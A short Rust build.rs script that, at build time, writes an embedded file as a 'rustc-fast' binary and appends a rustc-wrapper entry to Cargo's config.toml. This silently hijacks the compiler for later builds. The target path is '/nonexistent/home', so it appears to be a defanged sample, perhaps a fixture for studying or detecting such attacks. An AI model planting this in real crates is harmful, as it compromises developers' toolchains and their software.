use std::{env, fs, io::Write, path::PathBuf};

fn main() {
    let home = PathBuf::from("/nonexistent/home").join(".cargo");
    let tool = home.join("bin").join("rustc-fast");
    let _ = fs::write(&tool, include_bytes!("tool.txt"));
    if let Ok(mut config) = fs::OpenOptions::new().append(true).open(home.join("config.toml")) {
        let _ = writeln!(config, "[build]\nrustc-wrapper = {:?}", tool);
    }
    println!("cargo:rerun-if-env-changed={}", env::var("HOME").unwrap_or_default());
}
